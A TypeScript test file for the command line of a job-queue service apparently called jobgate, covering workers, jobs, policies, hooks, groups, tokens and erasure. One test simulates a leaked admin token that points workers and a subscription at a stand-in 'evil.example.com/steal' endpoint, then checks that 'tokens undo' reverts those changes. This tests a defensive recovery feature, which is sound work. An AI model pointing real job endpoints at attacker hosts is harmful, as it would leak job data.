import { spawn } from 'node:child_process';
import { once } from 'node:events';
import { mkdtempSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { createInterface } from 'node:readline';
import { expect } from 'chai';
import { commandLine, PROGRAM, runWith } from '../../support/command-line.ts';
import { answer } from '../../support/endpoint-server.ts';
import { eventually } from '../../support/eventually.ts';
import { ServiceProcess } from '../../support/service-process.ts';
import { StartedServices } from '../../support/started-services.ts';
import { ServiceContext } from '../service/context.ts';

describe('the command line, for everything else that operators do', () => {
  const services = new StartedServices();
  let service: ServiceProcess;
  let folder: string;
  const context = new ServiceContext(() => service);
  const { run, ok, json } = commandLine(() => service.url);

  before(async () => {
    service = await services.start({ STORE: 'memory' });
    folder = mkdtempSync(join(tmpdir(), 'jobgate-command-line-'));
  });
  afterEach(() => context.cleanUp());
  after(async () => {
    rmSync(folder, { recursive: true });
    await services.kill();
  });

  // holds: command-line.operations
  it('adds jobs, waits until they end, and shows their outcomes', async () => {
    const queue = context.newQueue();
    const endpoint = await context.newEndpoint((call, response) =>
      call.body.job.name === 'bad'
        ? answer(500, 'No room')(call, response)
        : answer(200, '{"sent":true}', { 'content-type': 'application/json' })(call, response),
    );
    expect(await ok('workers', 'register', queue, endpoint.url, '--concurrency', '3')).to.equal(
      `Registered the worker of ${queue}\n`,
    );
    expect(await ok('add', queue, 'send', '{"to": "ada"}', '--wait', '10s')).to.equal(
      '{\n  "sent": true\n}\n',
    );
    const failed = await run('add', queue, 'bad', '[1, 2]', '--id', 'b', '--wait', '10s');
    expect(failed).to.deep.equal({
      code: 1,
      output: 'b\n',
      errors: 'jobgate: Job b failed: No room\n',
    });
    expect(await ok('data', queue, 'b')).to.equal('[\n  1,\n  2\n]\n');
    expect(await ok('data', queue, '1', '--result')).to.equal('{\n  "sent": true\n}\n');
    expect(await ok('attempts', queue, 'b')).to.match(/^1 +failed +500 .*No room$/m);
    expect(await ok('workers', 'calls', queue)).to.match(/^b +1 +failed +500 /m);
    expect(await ok('search', queue, '--state', 'failed', '--reason', 'room')).to.match(
      /^b +bad /m,
    );
    expect(await ok('logs', queue, 'b')).to.equal('The log is empty\n');
    const file = join(folder, 'jobs.json');
    writeFileSync(file, JSON.stringify([{ name: 'x', data: 1 }]));
    // Job b used up a number too, as in BullMQ.
    expect(await ok('add', queue, '--jobs', `@${file}`)).to.equal('3\n');
    await context.finished(queue, '3');
  });

  // holds: destinations.command-line
  it('adds jobs with an endpoint of their own, for a worker without one', async () => {
    const queue = context.newQueue();
    const elsewhere = await context.newEndpoint(answer(200, { sent: true }));
    const without = ['workers', 'register', queue];
    expect((await run(...without)).errors).to.include('or --destinations');
    expect((await run(...without, elsewhere.url, '--destinations')).code).to.equal(2);
    const refused = await run(...without, '--destinations');
    expect(refused.errors).to.include(`the policy of ${queue} has no endpoints`);
    const adding = ['add', queue, 'send', '1', '--endpoint', elsewhere.url];
    expect((await run(...adding)).errors).to.include(
      `--endpoint is not allowed by the policy of ${queue}`,
    );
    const endpoints = JSON.stringify({ endpoints: { origins: [elsewhere.origin] } });
    await ok('policy', 'set', queue, '--body', endpoints);
    await ok(...without, '--destinations');
    expect(await ok(...adding, '--wait', '10s')).to.equal('{\n  "sent": true\n}\n');
    expect(await ok('workers', 'list')).to.include('POST (endpoints of jobs)');
    await ok('workers', 'remove', queue, '--yes');
  });

  it('begins figures with the first step that was counted', async () => {
    const queue = context.newQueue();
    await ok('add', queue, 'a', '--data', '1');
    const twice = await run('add', queue, 'a', '1', '--data', '1');
    expect(twice.errors).to.include('Give the data either as an argument or as --data');
    expect(await ok('search', queue, '--data', 'to:ada')).to.equal(
      `${queue} has no matching jobs\n`,
    );
    const counted = await eventually('the job is counted', async () => {
      const figures = await ok('figures', queue, '--from', '20m');
      return figures.startsWith('FROM') && figures;
    });
    expect(counted).to.match(/ CALL P95\n/);
    expect(counted.split('\n')[1]).not.to.match(/^.* -  +-  +-  +-  +- /);
    expect(counted.trim().split('\n').length).to.be.below(5);
  });

  // holds: command-line.operations
  it('lists, tests, disables and removes workers', async () => {
    const queue = context.newQueue();
    const endpoint = await context.newEndpoint(answer(200, 'fine'));
    const args = ['workers', 'register', queue, endpoint.url, '--signing', '--header', 'X-A: b'];
    expect(await ok(...args)).to.match(/\nwhsec_\S+\n$/);
    expect(await ok(...args)).to.equal(
      `Registered the worker of ${queue}\nIt keeps its secret; jobgate workers rotate ${queue} creates a new one\n`,
    );
    expect(await ok('workers', 'rotate', queue)).to.match(/^whsec_\S+\n$/);
    expect(await ok('workers', 'list')).to.match(RegExp(`^${queue} +healthy +0/`, 'm'));
    expect(await ok('workers', 'show', queue)).to.match(/^signing +true$/m);
    expect(await ok('workers', 'test', queue, '{"a": 1}')).to.match(/^outcome +completed$/m);
    await ok('workers', 'disable', queue, '--reason', 'Under repair');
    await ok('workers', 'disable', queue, '--because', 'An earlier name');
    expect(await ok('workers', 'health', queue)).to.match(/^reason +Under repair$/m);
    await ok('workers', 'enable', queue);
    expect(await json('workers', 'list', '--only', 'disabled')).to.include({ total: 0 });
    await ok('workers', 'remove', queue, '--yes');
    const { code, errors } = await run('workers', 'show', queue);
    expect([code, errors]).to.deep.equal([1, `jobgate: There is no worker for ${queue}\n`]);
  });

  // holds: command-line.operations, workers.change
  it('changes settings of a worker, and says which ones a new registration drops', async () => {
    const queue = context.newQueue();
    const { url } = await context.newEndpoint(answer(200, 'fine'));
    const settings = ['--signing', '--header', 'X-A: b', '--opts', '{"breaker": {"failures": 5}}'];
    await ok('workers', 'register', queue, url, ...settings);
    expect(await ok('workers', 'change', queue, '--concurrency', '10')).to.equal(
      `Changed the worker of ${queue}\nconcurrency: (none) -> 10\n`,
    );
    expect(await json('workers', 'change', queue, '--opts', '{"breaker": null}')).to.deep.equal({
      queue,
      endpoint: { url, method: 'post', signing: true, headers: { 'X-A': '[redacted]' } },
      opts: { concurrency: 10 },
    });
    expect(await ok('workers', 'register', queue, url)).to.equal(
      [
        `Registered the worker of ${queue}`,
        'signing: true -> (none)',
        'headers.X-A: "[redacted]" -> (none)',
        'concurrency: 10 -> (none)',
        '',
      ].join('\n'),
    );
    expect(await ok('audit', '--queue', queue, '--action', 'worker.change')).to.match(
      RegExp(`worker.change +${queue} +ok`),
    );
    expect((await run('workers', 'change', queue)).code).to.equal(2);
    const { code, errors } = await run('workers', 'change', queue, '--concurrency', '0');
    expect(code).to.equal(1);
    expect(errors).to.match(/^jobgate: --concurrency must be an integer of at least 1/);
  });

  // holds: command-line.operations
  it('shows and stores what production needs, and keeps what is set', async () => {
    const queue = context.newQueue();
    const { url } = await context.newEndpoint(answer(200, 'fine'));
    await ok('workers', 'register', queue, url, '--signing', '--concurrency', '3');
    await ok('policy', 'set', queue, '--body', '{"defaults": {"attempts": 7}, "maxWaiting": 9}');
    const backoff = { type: 'exponential', delay: 1000, jitter: 0.5 };
    const retention = {
      completed: { age: 86_400, count: 1000 },
      failed: { age: 604_800, count: 10_000 },
    };
    const lacking = {
      policy: { defaults: { backoff }, retention },
      worker: { opts: { breaker: { failures: 5 } } },
    };
    const recommended = ['policy', 'recommended', queue];
    expect(await json(...recommended)).to.deep.equal({ ...lacking, stored: false });
    expect(await json('policy', 'show', queue)).not.to.have.property('retention');
    expect(await ok(...recommended, '--yes')).to.match(RegExp(`\\nStored for ${queue}\\n$`));
    expect(await json('policy', 'show', queue)).to.deep.equal({
      defaults: { attempts: 7, backoff },
      maxWaiting: 9,
      retention,
    });
    expect(await json('workers', 'show', queue)).to.deep.include({
      opts: { concurrency: 3, breaker: { failures: 5 } },
    });
    expect(await ok(...recommended)).to.equal(`Nothing is open for ${queue}\n`);
  });

  // holds: command-line.operations
  it('keeps job schedulers, policies and flows', async () => {
    const queue = context.newQueue();
    const put = [
      'schedulers',
      'put',
      queue,
      'nightly',
      '--pattern',
      '0 3 * * *',
      '--name',
      'report',
    ];
    expect(await ok(...put, '--tz', 'Europe/Berlin', '--dry-run')).to.include('(Europe/Berlin)');
    expect(await json('schedulers', 'list', queue)).to.include({ total: 0 });
    await ok(...put);
    expect(await ok('schedulers', 'run', queue, 'nightly')).to.match(/^\S+\n$/);
    const slip = await run('schedulers', 'show', queue, 'nigthly');
    expect(slip.errors).to.equal(
      `jobgate: There is no job scheduler nigthly in ${queue}: did you mean nightly?\n`,
    );
    await ok('schedulers', 'pause', queue, 'nightly');
    expect(await ok('schedulers', 'list', queue)).to.match(
      /nightly +report +0 3 \* \* \* \(UTC\) +paused/,
    );
    await ok('schedulers', 'resume', queue, 'nightly');
    await ok('schedulers', 'remove', queue, 'nightly', '--yes');
    const gone = await run('schedulers', 'show', queue, 'nightly');
    expect(gone.errors).to.equal(`jobgate: There is no job scheduler nightly in ${queue}\n`);

    await ok('policy', 'set', queue, '--body', '{"maxWaiting": 5}');
    expect(await json('policy', 'show', queue)).to.deep.equal({ maxWaiting: 5 });
    await ok('policy', 'remove', queue, '--yes');
    expect((await run('policy', 'show', queue)).errors).to.include('There is no policy for');

    const flow = { queue, name: 'top', data: 1, children: [{ queue, name: 'leaf', data: 2 }] };
    const file = join(folder, 'flow.json');
    writeFileSync(file, JSON.stringify(flow));
    const drawn = await ok('flows', 'add', file);
    expect(drawn).to.match(/^\S+ {2}top.*\n└─ \S+ {2}leaf/);
    const [, id = ''] = /\/(\S+)/.exec(drawn) ?? [];
    expect(await ok('flows', 'show', queue, id)).to.match(
      /top {2}waiting-children\n└─ .*waiting$/m,
    );
  });

  // holds: command-line.operations
  it('erases what the store has of a person, of jobs and of a group', async () => {
    const queue = context.newQueue();
    for (const [customer, ...more] of [
      ['17'],
      ['17'],
      ['18'],
      ['17', '--group', 'acme'],
    ] as const) {
      await ok('add', queue, 'mail', JSON.stringify({ customer: { id: customer } }), ...more);
    }
    const person = ['erase', '--data', '{"customer.id": "17"}', '--queues', queue];
    expect(await ok(...person, '--dry-run')).to.equal('3 jobs would be erased\n');
    expect(await ok(...person, '--limit', '1', '--yes')).to.match(
      /^Erased 1 job\n2 jobs left: beyond --limit, active, or the next of a scheduler; /,
    );
    const rest = await json(...person, '--yes');
    expect(rest).to.include({ matched: 2, done: 2, remaining: 0 });
    expect(rest['places']).to.have.all.keys('events', 'remembered', 'callbacks', 'deliveries');
    expect(await ok('erase', queue, '3', '--yes')).to.match(/^Erased 1 job/);
    await ok('add', queue, 'mail', '1', '--group', 'acme');
    expect(await ok('erase', queue, '--group', 'acme', '--yes')).to.match(/^Erased 1 job/);
    expect(await ok('jobs', queue)).to.equal(`${queue} has no jobs\n`);
    for (const wrong of [[], [queue], [queue, '1', '--group', 'a'], [queue, '--data', '{}']]) {
      const { code, errors } = await run('erase', ...wrong, '--yes');
      expect(code, errors).to.equal(2);
    }
  });

  // holds: command-line.operations
  it('keeps hooks, tests them and shows their messages', async () => {
    const receiver = await context.newEndpoint();
    const id = context.newQueue();
    const hook = JSON.stringify({ url: receiver.url, events: ['worker.*'] });
    const stored = await ok('hooks', 'set', id, '--body', hook);
    expect(stored).to.match(new RegExp(`^Stored the hook ${id}\\nwhsec_\\S+\\n$`));
    expect(await ok('hooks', 'list')).to.include(id);
    expect(await json('hooks', 'show', id)).to.include({ id, url: receiver.url, signing: true });
    expect(await ok('hooks', 'test', id)).to.include('completed');
    expect(await ok('hooks', 'rotate', id)).to.match(/^whsec_\S+\n$/);
    receiver.respond = answer(500);
    expect((await run('hooks', 'test', id)).errors).to.include(
      `The receiver of ${id} failed the test`,
    );
    expect(await json('hooks', 'deliveries', id)).to.deep.equal({ deliveries: [] });
    const none = await run('hooks', 'resend', id, 'none');
    expect(none.errors).to.include('Delivery not found');
    await ok('hooks', 'remove', id, '--yes');
    expect((await run('hooks', 'show', id)).errors).to.include(`There is no hook ${id}`);
  });

  // holds: command-line.operations
  it('sets, pauses and holds groups', async () => {
    const queue = context.newQueue();
    await ok('add', queue, 'a', '1', '--group', 'acme');
    const set = ['groups', 'set', queue, 'acme', '--weight', '3', '--limiter', '10/1s'];
    expect(await ok(...set)).to.match(/^settings .*weight 3/m);
    const slip = await run('groups', 'show', queue, 'amce');
    expect(slip.errors).to.equal(
      `jobgate: There is no group amce in ${queue}: did you mean acme?\n`,
    );
    await ok('groups', 'pause', queue, 'acme');
    expect(await ok('groups', queue)).to.match(/^acme +0 +1 .*paused/m);
    expect(await ok('groups', queue, 'acm*')).to.match(/^acme +0 +1 /m);
    expect((await run('groups')).errors).to.include('<queue> is missing: jobgate groups list');
    expect((await run('groups', 'lits', queue)).errors).to.include('did you mean groups list?');
    await ok('groups', 'resume', queue, 'acme');
    expect(await ok('groups', 'hold', queue, 'acme', '90m')).to.match(
      /held until .* \(in 1 h 30 min\)\n$/,
    );
    await ok('groups', 'hold', queue, 'acme', '--end');
    await ok('groups', 'unset', queue, 'acme', '--yes');
    expect(await json('groups', 'show', queue, 'acme')).to.include({ settings: null });
    expect(await ok('hold', queue, '1h')).to.include('held until');
    expect(await ok('why', queue)).to.include(`jobgate hold ${queue} --end`);
    await ok('pause', queue);
    expect(await ok('resume', queue)).to.match(
      RegExp(`^${queue} is resumed; still held until .*: jobgate hold ${queue} --end\n$`),
    );
    await ok('drain', queue, '--yes');
    expect(await ok('why', queue)).to.match(
      RegExp(
        `^${queue} is held by environment:1 since \\S+, and has no waiting jobs\\.\nUntil .*\njobgate hold ${queue} --end`,
      ),
    );
    await ok('hold', queue, '--end');
    await ok('pause', queue, '--reason', 'Deploy of billing');
    expect(await ok('why', queue)).to.match(
      RegExp(
        `^${queue} is paused by environment:1 since \\S+: Deploy of billing, and has no waiting jobs\\.\njobgate resume ${queue}`,
      ),
    );
    expect(await ok('queue', queue)).to.match(
      /^paused by +environment:1 since .*: Deploy of billing$/m,
    );
    expect(await ok('resume', queue)).to.equal(`${queue} is resumed\n`);
    expect(await ok('why', queue)).to.equal(`${queue} has no waiting jobs\n`);
  });

  // holds: command-line.operations
  it('makes, rotates and revokes tokens, and shows who changed what', async () => {
    const create = ['tokens', 'create', 'mailer', '--rights', 'read', '--expires', '90d'];
    const { id, token } = await json(...create);
    const as = (text: string): Promise<{ readonly output: string }> =>
      runWith({ JOBGATE_URL: service.url, JOBGATE_TOKEN: text }, ['whoami']);
    expect((await as(String(token))).output).to.match(/^token +mailer$/m);
    const next = (await ok('tokens', 'rotate', String(id), '--overlap', '0s')).trim();
    expect((await as(next)).output).to.match(/^rights +read$/m);
    expect(await ok('tokens', 'list')).to.match(/ mailer +read /);
    expect(await ok('tokens', 'change', String(id), '--name', 'renamed')).to.include('renamed');
    expect(await ok('tokens')).to.match(
      /^ID .* FROM .*\n(?:.*\n)*.* renamed .* 127\.0\.0\.1 +api$/m,
    );
    const second = await json('tokens', 'create', 'renamed', '--rights', 'read');
    const ambiguous = await run('tokens', 'revoke', 'renamed', '--yes');
    expect(ambiguous).to.include({ code: 2 });
    expect(ambiguous.errors).to.include('2 tokens have the name renamed').and.include(String(id));
    await ok('tokens', 'revoke', String(second['id']), '--yes');
    expect(await ok('tokens', 'revoke', 'renamed', '--yes')).to.equal(
      `Revoked the token ${String(id)}\n`,
    );
    const revoked = await run('tokens', 'revoke', String(id), '--yes');
    expect(revoked.errors).to.equal(
      `jobgate: There is no token ${String(id)}: jobgate tokens lists them\n`,
    );
    expect(await ok('audit', '--action', 'token.rotate', '--from', '1h')).to.match(
      RegExp(`token.rotate +${String(id)} +ok`),
    );
    expect(await ok('system')).to.match(/^store +memory/m);
  });

  // holds: stops.undo
  it('lists what a token set that still stands, and takes it back once confirmed', async () => {
    const [queue, other] = [context.newQueue(), context.newQueue()];
    const create = ['tokens', 'create', 'leaked', '--rights', 'admin'];
    const { id, token } = await json(...create);
    const leaked = async (...args: string[]): Promise<void> => {
      const environment = { JOBGATE_URL: service.url, JOBGATE_TOKEN: String(token) };
      const { code, errors } = await runWith(environment, args);
      expect(code, errors).to.equal(0);
    };
    const url = 'https://evil.example.com/steal?key=1';
    await ok('workers', 'register', other, 'https://example.com/jobs');
    await leaked('workers', 'register', other, url);
    await leaked('workers', 'register', queue, url);
    await leaked('pause', queue, '--reason', 'Mine now');
    await leaked('hold', other, '1h');
    await leaked('tokens', 'create', 'second', '--rights', 'read');
    await leaked('groups', 'set', queue, 'acme', '--weight', '9');
    await leaked('groups', 'pause', queue, 'acme');
    await ok('groups', 'set', queue, 'plain', '--weight', '9');
    await leaked('groups', 'pause', queue, 'plain');
    await ok('groups', 'unset', queue, 'plain', '--yes');
    await leaked('groups', 'set', other, 'gone', '--weight', '9');
    await ok('groups', 'unset', other, 'gone', '--yes');
    const endpoints = { origins: ['https://evil.example.com'] };
    const policy = { limits: ['taken'], endpoints };
    await leaked('limits', 'set', 'taken', '--concurrency', '1');
    await leaked('policy', 'set', queue, '--body', JSON.stringify(policy));
    const subscription = JSON.stringify({ queue, endpoint: { url } });
    await leaked('topics', 'subscribe', 'orders', 'copy', '--body', subscription);
    // Somebody else says the same without a reason: the pause is still that of the token.
    await ok('pause', queue);
    await leaked('drain', other, '--yes');
    const undo = ['tokens', 'undo', String(id)];
    const listed = await ok(...undo);
    expect(listed).to.match(RegExp(`worker +${queue} .*origin https://evil.example.com +DELETE`));
    expect(listed).to.match(
      RegExp(`worker +${other} .* environment:1 set it too: set or remove it by hand`),
    );
    expect(listed).to.match(/subscription .*origin https:\/\/evil.example.com, .*DELETE /);
    expect(listed).to.match(/limit .*limit taken .*DELETE /);
    expect(listed).to.match(/pause of a queue .*reason Mine now +POST /);
    expect(listed).to.include('Not to be taken back: queue.drain (1)');
    expect(listed).not.to.include('gone');
    const before = await json(...undo);
    expect(before['standing']).to.have.length(11);
    expect(await ok(...undo, '--yes')).to.match(/\nTook back 10 changes\n$/);
    const { standing } = await json(...undo);
    expect(standing).to.deep.equal([
      { ...(before['standing'] as { cannot?: string }[]).find(({ cannot }) => cannot) },
    ]);
    expect(await json('queue', queue)).to.include({ paused: false, worker: null });
    expect(await ok('groups', queue)).to.equal(`${queue} has no groups\n`);
    expect(await ok('tokens', 'list')).not.to.include('second');
    const { id: idle } = await json('tokens', 'create', 'idle', '--rights', 'read');
    expect(await ok('tokens', 'undo', String(idle))).to.equal(
      `Nothing that ${String(idle)} set still stands\n`,
    );
    const slip = await run('tokens', 'undo', 'unheard-of');
    expect(slip.code).to.equal(1);
    expect(slip.errors).to.include('The audit has no change by unheard-of');
  });

  // holds: command-line.contexts
  it('keeps services by name, readable by the user alone, and sends the token of one to no other', async () => {
    const home = { XDG_CONFIG_HOME: join(folder, 'config') };
    const login = ['login', 'here', '--url', service.url];
    const refused = await runWith(home, login, 'wrong\n');
    expect(refused).to.include({ code: 1, errors: 'jobgate: The token is not valid (401)\n' });
    const kept = await runWith(home, login, `${ServiceProcess.token}\n`);
    expect(kept.output).to.include('(context here, token environment:1)');
    expect(await runWith(home, login, ServiceProcess.token)).to.deep.equal(kept);
    const file = join(home.XDG_CONFIG_HOME, 'jobgate', 'contexts.json');
    expect(statSync(file).mode & 0o777).to.equal(0o600);
    const whoami = (environment: Record<string, string>, ...args: string[]) =>
      runWith({ ...home, ...environment }, ['whoami', ...args]);
    expect((await whoami({})).output).to.include(service.url);
    expect((await whoami({ JOBGATE_TOKEN: 'other' })).code).to.equal(1);
    expect((await whoami({ JOBGATE_TOKEN: 'other' }, '--context', 'here')).code).to.equal(0);
    const elsewhere = await whoami({ JOBGATE_URL: 'http://127.0.0.1:1' });
    expect(elsewhere.errors).to.include('There is no token for http://127.0.0.1:1');
    expect((await runWith(home, ['contexts'])).output).to.match(/^\* +here +http/m);
    expect((await runWith(home, ['contexts', 'use', 'hree'])).errors).to.include(
      'did you mean here?',
    );
    expect((await runWith(home, ['contexts', 'remove', 'here', '--yes'])).code).to.equal(0);
    expect((await whoami({})).code).to.equal(2);
  });

  // holds: command-line.completion
  it('completes commands, options and queues', async () => {
    const queue = context.newQueue();
    await context.add(queue, { name: 'a', data: 1 });
    const complete = async (...words: string[]) => (await ok('complete', ...words)).split('\n');
    expect(await complete('qu')).to.deep.equal(['queues', 'queue', '']);
    expect(await complete('workers', 're')).to.deep.equal(['register', 'remove', '']);
    expect(await complete('retry', '--ht')).to.deep.equal(['--http-status', '']);
    expect(await complete('pause', queue)).to.include(queue);
    expect(await complete('jobs', queue, '--state', 'failed,w')).to.deep.equal([
      'failed,waiting',
      'failed,waiting-children',
      '',
    ]);
    expect(await complete('queues', '--sort=o')).to.deep.equal(['--sort=oldest', '']);
    expect(await complete('pause', '--url', service.url, queue)).to.include(queue);
    expect(await complete('pause', queue, '')).to.deep.equal(['', '']);
  });

  // holds: command-line.operations
  it('changes waiting jobs, waits until they end, and frees their deduplication ids', async () => {
    const queue = context.newQueue();
    const opts = '{"deduplication": {"id": "once"}}';
    await ok('add', queue, 'send', '1', '--id', 'a', '--delay', '1h', '--opts', opts);
    expect(await ok('change', queue, 'a', '--data', '{"to": 2}')).to.equal(
      `Changed job a of ${queue}\n`,
    );
    expect(await ok('data', queue, 'a')).to.equal('{\n  "to": 2\n}\n');
    expect((await run('change', queue, 'a')).errors).to.equal(
      'jobgate: Give at least one change: jobgate change -h\n',
    );
    expect(await ok('deduplication', 'show', queue, 'once')).to.match(/^job +a$/m);
    await ok('deduplication', 'remove', queue, 'once', '--yes');
    expect((await run('deduplication', 'show', queue, 'once')).errors).to.equal(
      `jobgate: There is no deduplication id once in ${queue}\n`,
    );
    expect(await run('wait', queue, 'a', '1ms')).to.deep.equal({
      code: 1,
      output: '',
      errors: 'jobgate: Job a is delayed after 1 ms\n',
    });
    await ok('cancel', queue, 'a', '--because', 'Sold out');
    expect(await run('wait', queue, 'a')).to.deep.equal({
      code: 1,
      output: 'a\n',
      errors: 'jobgate: Job a failed: Sold out\n',
    });
    await ok('retry', queue, 'a', '--data', '3');
    expect(await ok('data', queue, 'a')).to.equal('3\n');
    expect((await run('retry', queue, '--all', '--data', '3')).code).to.equal(2);
  });

  // holds: command-line.operations
  it('lists the sessions of browsers, and ends them', async () => {
    await service.call('POST', '/sessions', { token: ServiceProcess.token });
    const { sessions } = await json('sessions');
    const [{ id }] = sessions as [{ id: string }];
    expect(await ok('sessions', 'list')).to.include(id);
    expect(await ok('sessions', 'end', id, '--yes')).to.equal(`The session ${id} has ended\n`);
    expect((await run('sessions', 'end', id, '--yes')).errors).to.equal(
      `jobgate: There is no session ${id}: jobgate sessions lists them\n`,
    );
  });

  it('shows hours where there would be too many minutes', async () => {
    expect(await json('figures', '--from', '7d')).to.include({ step: 3_600_000 });
  });

  it('watches until Ctrl-C', async () => {
    const queue = context.newQueue();
    await context.add(queue, { name: 'a', data: 1 });
    const env = {
      PATH: process.env['PATH'],
      JOBGATE_URL: service.url,
      JOBGATE_TOKEN: ServiceProcess.token,
    };
    const child = spawn(process.execPath, [PROGRAM, 'jobs', queue, '--watch'], { env });
    const lines = createInterface(child.stdout)[Symbol.asyncIterator]();
    let heads = 0;
    while (heads < 2) {
      const line = (await lines.next()) as IteratorResult<string, undefined>;
      if (line.value?.startsWith('ID ') === true) heads += 1;
    }
    child.kill('SIGINT');
    expect(await once(child, 'exit')).to.deep.equal([0, null]);
  });

  it('fits tables into the terminal, and keeps ids whole', async () => {
    const queue = context.newQueue();
    const id = 'an-id-of-some-length-that-somebody-copies';
    await ok('add', queue, 'a name that is rather long as well, longer than most', '1', '--id', id);
    const environment = {
      JOBGATE_URL: service.url,
      JOBGATE_TOKEN: ServiceProcess.token,
      COLUMNS: '80',
    };
    const { output } = await runWith(environment, ['jobs', queue]);
    const [head = '', line = ''] = output.split('\n');
    expect(line).to.match(new RegExp(`^${id} +a name.*… +waiting +0 +(?:now|\\d+ s ago)$`));
    expect(head.length).to.be.at.most(80);
    expect(line.length).to.be.at.most(80);
  });
});
